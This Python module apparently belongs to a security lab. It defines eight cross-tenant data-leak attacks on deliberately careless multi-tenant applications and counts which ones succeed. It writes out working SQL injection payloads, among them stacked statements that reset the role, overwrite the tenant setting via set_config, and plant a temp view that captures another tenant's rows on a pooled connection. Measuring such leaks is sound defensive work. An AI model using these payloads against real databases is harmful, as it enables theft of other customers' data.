"""Eight ways to read another tenant's documents through an application, and a table of which succeed."""

from __future__ import annotations

import contextlib
from collections.abc import Callable, Mapping, Sequence

import psycopg

from embedlab.index import Floats
from embedlab.security.tenant_apps import CarelessApp

Attack = Callable[[CarelessApp, str, str, Floats], Sequence]


def forgotten_condition(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Use a feature whose statement has no condition on the tenant."""
    return app.similar(mine, query)


def guessed_numbers(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Count: ids are 0, 1, 2, ..."""
    return [row for number in range(20) for row in app.fetch(mine, number)]


def wider_filter(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Write OR into the condition: AND binds closer, so all that stood before it is one alternative."""
    return app.search(mine, query, "package = 'numpy' OR true")


def tenant_in_filter(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Name the tenant in a filter that is merged with the application's: the later value wins."""
    return app.filtered(mine, query, {"tenant": other})


def tenant_set(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Set the setting that the policy asks: everybody may."""
    where = f"true; SELECT set_config('app.tenant', '{other}', true);"
    return app.search(mine, query, f'{where} SELECT id, tenant, text FROM "{app.table}" WHERE true')


def role_reset(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Become again whoever opened the connection."""
    where = f'true; RESET ROLE; SELECT id, tenant, text FROM "{app.table}" WHERE true'
    return app.search(mine, query, where)


def view_left_behind(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Leave a view of the table's name in the session: it keeps what the next tenant's search reads."""
    table = f'public."{app.table}"'
    plant = f"""true; CREATE TEMP TABLE kept (LIKE {table});
        CREATE FUNCTION pg_temp.keep({table}) RETURNS boolean LANGUAGE sql AS
            $$ INSERT INTO pg_temp.kept SELECT ($1).* RETURNING true $$;
        CREATE TEMP VIEW "{app.table}" AS SELECT * FROM {table} AS one WHERE pg_temp.keep(one);
        SELECT id, tenant, text FROM {table} WHERE true"""
    try:
        app.search(mine, query, plant)
        app.search(other, query)  # an honest search, on the same connection of the pool
        return app.search(mine, query, "true; SELECT id, tenant, text FROM pg_temp.kept WHERE true")
    finally:
        app.connection.execute("DISCARD TEMP")  # for the attacks that follow


def shared_answer(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
    """Ask what another tenant has just asked."""
    app.answer(other, "What is in our contract?", query)
    return [app.answer(mine, "What is in our contract?", query)]


ATTACKS: Mapping[str, Attack] = {
    "forgotten condition": forgotten_condition,
    "guessed numbers": guessed_numbers,
    "OR in the filter": wider_filter,
    "tenant in the filter": tenant_in_filter,
    "setting overwritten": tenant_set,
    "role reset": role_reset,
    "view left behind": view_left_behind,
    "answer from the cache": shared_answer,
}


def leaked_rows(attack: Attack, app: CarelessApp, mine: str, other: str, query: Floats) -> int:
    """Return how many rows or answers of other tenants an attack brought; an error brings none.

    Examples
    --------
    >>> class Open:
    ...     def similar(self, tenant, query):
    ...         return [(1, "a", "mine"), (2, "b", "not mine")]
    >>> leaked_rows(forgotten_condition, Open(), "a", "b", None)
    1
    """
    found: Sequence = []
    with contextlib.suppress(psycopg.Error):
        found = attack(app, mine, other, query)
    return sum(_owner(row) not in ("", mine) for row in found)


def _owner(row: object) -> str:
    return row.split(":")[0] if isinstance(row, str) else row[1]


def attack_table(
    apps: Mapping[str, CarelessApp], mine: str, other: str, query: Floats
) -> dict[str, dict[str, int]]:
    """Return {attack: {app: rows of other tenants}}, every attack on every application."""
    return {
        name: {label: leaked_rows(attack, app, mine, other, query) for label, app in apps.items()}
        for name, attack in ATTACKS.items()
    }
